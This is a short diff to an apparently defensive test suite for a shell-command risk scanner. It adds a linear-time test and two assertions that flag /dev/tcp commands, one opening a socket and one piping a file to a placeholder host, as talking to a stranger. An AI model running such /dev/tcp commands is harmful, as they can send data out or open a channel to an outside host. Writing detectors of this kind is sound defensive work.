@@ -148,3 +148,9 @@ def test_any_script(parts: list[str]) -> None:
 def test_time_is_linear(piece: str) -> None:
     """A quadratic reader would take minutes here."""
     list(risks(piece * (100_000 // len(piece))))
+
+
+def test_many_sockets_and_many_files_take_linear_time() -> None:
+    assert not list(risks("a " + "/dev/tcp/ " * 45_000 + ">x " * 45_000))
+    assert [risk.what for risk in risks("exec 3<>/dev/tcp/h/80")] == ["talks to a stranger over /dev/tcp"]
+    assert [risk.what for risk in risks("cat x > /dev/tcp/h/80")] == ["talks to a stranger over /dev/tcp"]
